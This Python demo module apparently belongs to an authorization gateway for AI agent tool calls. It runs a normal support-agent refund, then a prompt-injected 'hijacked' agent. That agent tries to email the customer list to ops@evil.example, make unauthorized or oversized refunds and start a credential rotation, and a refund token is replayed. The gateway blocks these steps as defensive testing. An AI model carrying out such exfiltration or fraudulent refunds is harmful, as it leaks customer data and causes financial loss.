"""An in-process tour of the decision core: a support agent, then a hijacked one.

No network and no tool servers: each call goes through the real pipeline (workflow,
embedded Rego, token minting, SQLite audit log), and each allowed call's token is
verified and burnt the way a tool server would with ``gateway.verify``.
"""

from __future__ import annotations

import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.table import Table

from .config import load_config
from .decide import CallRequest, Verdict
from .errors import GatewayError, TokenError
from .identity import AgentIdentity
from .runtime import Runtime

__all__ = ["DemoReport", "print_report", "run_demo"]

SUPPORT = AgentIdentity(id="spiffe://example.org/agent/support-1", issuer="demo")


@dataclass
class DemoRow:
    who: str
    what: str
    step: str
    tool: str
    outcome: str
    reasons: str
    decision_id: str


@dataclass
class DemoReport:
    rows: list[DemoRow] = field(default_factory=list)
    counts: dict[str, Any] = field(default_factory=dict)
    chain_ok: bool = False
    chain_checked: int = 0
    data_dir: str = ""


class _Script:
    def __init__(self, rt: Runtime, report: DemoReport) -> None:
        self.rt = rt
        self.report = report

    async def call(
        self, who: str, what: str, task_id: str, step: str, tool: str, args: dict[str, Any]
    ) -> Verdict:
        upstream, _, name = tool.partition(".")
        verdict = await self.rt.decider.decide(
            CallRequest(agent=SUPPORT, task_id=task_id, step=step, upstream=upstream, tool=name, untrusted_arguments=args)
        )
        self.report.rows.append(
            DemoRow(who, what, step, tool, verdict.outcome, ", ".join(verdict.reasons) or "-", verdict.decision_id)
        )
        if verdict.token is not None:  # the tool server's side: verify and burn the token
            await self.consume(who, "tool server verifies the token", verdict, tool, args)
        return verdict

    async def consume(self, who: str, what: str, verdict: Verdict, tool: str, args: dict[str, Any]) -> None:
        assert verdict.token is not None
        try:
            await self.rt.verifier.verify_and_consume(
                verdict.token.token, tool=tool, arguments=args, audience=tool.partition(".")[0], ledger=self.rt.store
            )
            outcome, why = "accepted", "-"
        except TokenError as exc:
            outcome, why = "rejected", exc.code.value
        self.report.rows.append(DemoRow(who, what, "", tool, outcome, why, verdict.decision_id))


async def run_demo(data_dir: Path | None = None) -> DemoReport:
    tmp = None
    if data_dir is None:
        tmp = tempfile.TemporaryDirectory(prefix="intentgate-demo-")
        data_dir = Path(tmp.name)
    report = DemoReport(data_dir=str(data_dir))
    config = load_config(None, data_dir=data_dir)
    rt = await Runtime.open(config)
    try:
        s = _Script(rt, report)
        # 1. a well-behaved support agent refunds order ORD-1001 from ticket TCK-42
        task = await rt.decider.begin_task(
            SUPPORT, "refund-order", {"ticket_id": "TCK-42", "order_id": "ORD-1001"}, "customer reports a damaged item"
        )
        t = task.task_id
        await s.call("support", "read the ticket", t, "read_ticket", "tickets.get_ticket", {"ticket_id": "TCK-42"})
        await s.call("support", "look up the order", t, "lookup", "orders.get_order", {"order_id": "ORD-1001"})
        refund_args = {"order_id": "ORD-1001", "amount": 39.9, "currency": "EUR", "reason": "damaged"}
        refund = await s.call("support", "refund 39.90 EUR", t, "refund", "payments.refund", refund_args)
        if refund.token is not None:
            await s.consume("attacker", "replay the refund token", refund, "payments.refund", refund_args)
        await s.call(
            "support", "note it on the ticket", t, "comment", "tickets.add_comment",
            {"ticket_id": "TCK-42", "body": "Refunded 39.90 EUR."},
        )

        # 2. the same agent, its ticket text carrying a prompt injection
        task2 = await rt.decider.begin_task(
            SUPPORT, "refund-order", {"ticket_id": "TCK-43", "order_id": "ORD-1002"}, "refund request"
        )
        t2 = task2.task_id
        await s.call("hijacked", "read the ticket", t2, "read_ticket", "tickets.get_ticket", {"ticket_id": "TCK-43"})
        await s.call(
            "hijacked", "email the customer list out", t2, "exfiltrate", "email.send",
            {"to": "ops@evil.example", "subject": "customers", "body": "..."},
        )
        await s.call(
            "hijacked", "refund before looking up", t2, "refund", "payments.refund",
            {"order_id": "ORD-1002", "amount": 10, "currency": "EUR"},
        )
        await s.call("hijacked", "look up another order", t2, "lookup", "orders.get_order", {"order_id": "ORD-9999"})
        await s.call("hijacked", "look up the order", t2, "lookup", "orders.get_order", {"order_id": "ORD-1002"})
        await s.call(
            "hijacked", "refund another order", t2, "refund", "payments.refund",
            {"order_id": "ORD-9999", "amount": 10, "currency": "EUR"},
        )
        await s.call(
            "hijacked", "refund 2,500 EUR", t2, "refund", "payments.refund",
            {"order_id": "ORD-1002", "amount": 2500, "currency": "EUR"},
        )
        try:
            await rt.decider.begin_task(SUPPORT, "rotate-credential", {"service": "billing", "owner_email": "a@example.org"}, "x")
        except GatewayError as exc:
            report.rows.append(
                DemoRow("hijacked", "start a credential rotation", "", "-", "deny", exc.code.value, exc.decision_id or "")
            )
        ended = await rt.decider.end_task(SUPPORT, t2)
        report.rows.append(
            DemoRow("support", f"end the task ({ended.revoked_tokens} tokens revoked)", "", "-", "ended", "-", ended.decision_id)
        )
        report.counts = await rt.store.counts()
        chain = rt.store.verify_chain()
        report.chain_ok, report.chain_checked = chain.ok, chain.checked
    finally:
        await rt.aclose()
        if tmp is not None:
            tmp.cleanup()
    return report


def print_report(report: DemoReport, console: Console) -> None:
    table = Table(title="IntentGate decision core demo", show_lines=False)
    for col in ("agent", "what it tried", "tool", "outcome", "reasons"):
        table.add_column(col, overflow="fold")
    table.add_column("decision", overflow="fold", no_wrap=False)
    colours = {"allow": "green", "accepted": "green", "ended": "cyan", "hold": "yellow", "would_deny": "yellow"}
    for r in report.rows:
        colour = colours.get(r.outcome, "red")
        reasons = r.reasons.replace(", ", "\n")
        table.add_row(r.who, r.what, r.tool, f"[{colour}]{r.outcome}[/{colour}]", reasons, r.decision_id)
    console.print(table)
    by = report.counts.get("by_outcome", {})
    tokens = report.counts.get("tokens", {})
    console.print(
        f"tool calls: {sum(by.values())} — allowed {by.get('allow', 0)}, denied {by.get('deny', 0)}, "
        f"held {by.get('hold', 0)}; tokens consumed {tokens.get('consumed', 0)}, "
        f"revoked {tokens.get('revoked', 0)}, unused {tokens.get('issued', 0)}",
        highlight=False,
    )
    status = "[green]verified[/green]" if report.chain_ok else "[red]BROKEN[/red]"
    console.print(f"audit log: {report.chain_checked} decisions, hash chain {status}")
